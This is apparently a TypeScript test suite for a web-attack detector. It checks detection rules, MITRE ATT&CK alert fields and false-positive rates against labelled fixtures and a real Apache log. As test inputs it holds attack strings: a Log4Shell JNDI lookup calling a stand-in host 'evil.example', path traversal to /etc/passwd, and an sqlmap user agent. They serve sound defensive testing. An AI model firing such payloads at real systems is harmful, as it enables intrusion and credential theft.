import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { REPO_ROOT } from '../../config/test-support.js';
import { UserAgentEnricher } from '../user-agent/user-agent-enricher.js';
import { WebAttackDetector, type ThreatDocument, type WebRequestView } from './web-attack-detector.js';

const FIXTURES = join(REPO_ROOT, 'test/fixtures/web-attacks');

interface Sample {
  category: string;
  field: string;
  value: string;
  line: number;
}

function samples(file: string): Sample[] {
  return readFileSync(join(FIXTURES, file), 'utf8')
    .split('\n')
    .map((text, i) => ({ text, line: i + 1 }))
    .filter(({ text }) => text !== '' && !text.startsWith('#'))
    .map(({ text, line }) => {
      const [category, field, ...rest] = text.split('\t');
      return { category, field, value: rest.join('\t'), line };
    });
}

function request(field: string, value: string): WebRequestView {
  switch (field) {
    case 'url':
      return { url: { original: value } };
    case 'user_agent':
      return { user_agent: { original: value } };
    case 'referrer':
      return { http: { request: { referrer: value } } };
    case 'method':
      return { http: { request: { method: value } } };
    default:
      throw new Error(`unknown fixture field ${field}`);
  }
}

const detector = WebAttackDetector.load();

describe('web-attack rules on labelled samples', () => {
  const positives = samples('positive.tsv');
  const benign = samples('benign.tsv');

  it('has at least ~10 positive samples for each main category', () => {
    const counts = new Map<string, number>();
    for (const s of positives) counts.set(s.category, (counts.get(s.category) ?? 0) + 1);
    for (const c of ['sqli', 'xss', 'path_traversal', 'lfi', 'rfi', 'command_injection', 'scanner', 'exploit_probe', 'webshell', 'log4shell']) {
      assert.ok((counts.get(c) ?? 0) >= 10, `${c}: ${counts.get(c) ?? 0} samples`);
    }
  });

  it('detects every positive sample with a rule of its category', () => {
    const missed: string[] = [];
    for (const s of positives) {
      const hits = detector.detect(request(s.field, s.value));
      if (!hits.some((h) => h.rule.category === s.category)) {
        missed.push(`positive.tsv:${s.line} ${s.category} ${s.field} ${s.value} → ${hits.map((h) => `${h.rule.id}/${h.rule.category}`).join(',') || 'nothing'}`);
      }
    }
    assert.deepEqual(missed, []);
  });

  it('flags no benign sample', () => {
    const flagged: string[] = [];
    for (const s of benign) {
      const hits = detector.detect(request(s.field, s.value));
      if (hits.length > 0) flagged.push(`benign.tsv:${s.line} ${s.value} → ${hits.map((h) => `${h.rule.id} (${h.match})`).join(', ')}`);
    }
    assert.deepEqual(flagged, []);
  });

  it('calls Googlebot a bot (user-agent enricher) but not a scanner', () => {
    const doc = { user_agent: { original: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' } };
    const ua = new UserAgentEnricher();
    const enriched: Parameters<UserAgentEnricher['enrich']>[0] = { ...doc };
    ua.enrich(enriched);
    assert.deepEqual(enriched.tags, ['bot']);
    assert.deepEqual(detector.detect(doc), []);
  });
});

describe('ECS alert fields', () => {
  it('writes event.kind, risk score, rule.* and threat.* for one hit', () => {
    const doc: ThreatDocument = { url: { original: '/?x=${jndi:ldap://evil.example/a}' }, event: { kind: 'event', category: ['web'] } };
    const hits = detector.enrich(doc);
    assert.equal(hits.length, 1);
    assert.deepEqual(doc.event, { kind: 'alert', category: ['web', 'intrusion_detection'], risk_score: 95, risk_score_norm: 95, severity: 99 });
    assert.deepEqual(doc.rule, { id: 'SLW-0801', name: 'Log4Shell (CVE-2021-44228) JNDI lookup', category: 'log4shell', ruleset: 'sluice-web-attacks', version: '2026.1' });
    assert.deepEqual(doc.threat, {
      framework: 'MITRE ATT&CK',
      technique: { id: 'T1190', name: 'Exploit Public-Facing Application', reference: 'https://attack.mitre.org/techniques/T1190/' },
      tactic: { id: 'TA0001', name: 'Initial Access', reference: 'https://attack.mitre.org/tactics/TA0001/' },
    });
    assert.deepEqual(doc.sluice, { threat: { matches: [{ rule_id: 'SLW-0801', field: 'url', match: '${jndi:' }] } });
  });

  it('lists several hits strongest first, with sub-techniques and tactics, risk score = the highest', () => {
    const doc: ThreatDocument = { url: { original: '/download.php?file=../../../../etc/passwd' }, user_agent: { original: 'sqlmap/1.5' } };
    detector.enrich(doc);
    assert.deepEqual(doc.rule?.id, ['SLW-0401', 'SLW-0302', 'SLW-0301', 'SLW-0901']);
    assert.deepEqual(doc.rule?.category, ['lfi', 'path_traversal', 'scanner']);
    assert.equal(doc.event?.risk_score, 75);
    assert.equal(doc.event?.kind, 'alert');
    const technique = doc.threat?.technique as Record<string, unknown>;
    assert.deepEqual(technique.id, ['T1190', 'T1083', 'T1595']);
    assert.deepEqual(technique.subtechnique, { id: 'T1595.002', name: 'Vulnerability Scanning', reference: 'https://attack.mitre.org/techniques/T1595/002/' });
    assert.deepEqual((doc.threat?.tactic as Record<string, unknown>).name, ['Initial Access', 'Discovery', 'Reconnaissance']);
  });

  it('leaves a clean document untouched', () => {
    const doc: ThreatDocument = { url: { original: '/index.html' }, event: { kind: 'event' }, user_agent: { original: 'curl/8' } };
    const before = structuredClone(doc);
    assert.deepEqual(detector.enrich(doc), []);
    assert.deepEqual(doc, before);
  });

  it('uses url.path / url.query when there is no url.original', () => {
    assert.equal(detector.detect({ url: { path: '/a.php', query: 'f=..%2f..%2f..%2fetc%2fpasswd' } })[0]?.rule.id, 'SLW-0401');
  });
});

/** Combined log format: host ident user [time] "request" status bytes "referrer" "agent" (one line of the log lost its closing quote). */
const COMBINED = /^(\S+) \S+ \S+ \[[^\]]+\] "((?:[^"\\]|\\.)*)" (\d{3}) \S+ "((?:[^"\\]|\\.)*)" "((?:[^"\\]|\\.)*)"?$/;

describe('the real 10,000-line Apache log (elastic/examples)', () => {
  const log = '/work/shared/corpus/access-logs/elastic-examples-apache_logs.log';
  const lines = readFileSync(log, 'utf8').split('\n').filter((l) => l !== '');

  it('flags the probes it contains and reports the share per category', () => {
    const perCategory = new Map<string, number>();
    const perRule = new Map<string, number>();
    const flagged: string[] = [];
    let parsed = 0;
    for (const line of lines) {
      const m = COMBINED.exec(line);
      if (m === null) continue;
      parsed++;
      const [method, target] = m[2].split(' ');
      const hits = detector.detect({ url: { original: target ?? '' }, http: { request: { method, referrer: m[4] } }, user_agent: { original: m[5] } });
      if (hits.length === 0) continue;
      flagged.push(`${hits.map((h) => h.rule.id).join(',')} ${m[2]} | ${m[5]}`);
      for (const c of new Set(hits.map((h) => h.rule.category))) perCategory.set(c, (perCategory.get(c) ?? 0) + 1);
      for (const h of hits) perRule.set(h.rule.id, (perRule.get(h.rule.id) ?? 0) + 1);
    }
    assert.equal(parsed, 10_000);
    const share = (n: number): string => `${((100 * n) / parsed).toFixed(2)} %`;
    console.log(`flagged ${flagged.length} of ${parsed} lines (${share(flagged.length)})`);
    for (const [c, n] of [...perCategory].sort((a, b) => b[1] - a[1])) console.log(`  ${c}: ${n} (${share(n)})`);
    console.log(`  per rule: ${[...perRule].sort().map(([r, n]) => `${r}=${n}`).join(' ')}`);
    if (process.env.SLUICE_PRINT_HITS) for (const f of flagged) console.log(`    ${f}`);

    // Known content of this log (checked by hand, see docs/reference/enrichment.md): WordPress and
    // Joomla/admin login probes on a site that runs neither, and nothing else that is an attack.
    const wpLogin = lines.filter((l) => l.includes('"GET /wp-login.php')).length;
    assert.ok(wpLogin >= 10);
    assert.ok((perRule.get('SLW-1002') ?? 0) >= wpLogin, 'every wp-login.php probe is flagged');
    const fckeditor = lines.filter((l) => /\/fckeditor\//i.test(l)).length;
    assert.equal(fckeditor, 8);
    assert.equal(perRule.get('SLW-1006'), fckeditor, 'every FCKeditor probe is flagged');
    // A detector that fires on ordinary traffic is useless: under 1 % of this ordinary blog's lines.
    assert.ok(flagged.length < parsed / 100, `${flagged.length} lines flagged`);
    assert.ok(flagged.every((f) => !/\/presentations\/.*\.(?:png|gif|js|css) /.test(f)), 'no presentation asset is flagged');
  });

  it('measures the detector throughput (printed, not asserted)', () => {
    const requests = lines.map((line) => {
      const m = COMBINED.exec(line)!;
      const [method, target] = m[2].split(' ');
      return { url: { original: target ?? '' }, http: { request: { method, referrer: m[4] } }, user_agent: { original: m[5] } };
    });
    let n = 0;
    const start = process.hrtime.bigint();
    for (let round = 0; round < 5; round++) for (const r of requests) n += detector.detect(r).length;
    const secs = Number(process.hrtime.bigint() - start) / 1e9;
    console.log(`detector: ${Math.round((5 * requests.length) / secs).toLocaleString('en')} lines/s over ${5 * requests.length} lines (${detector.ruleCount} rules, ${n} hits)`);
    assert.ok(n > 0);
  });
});
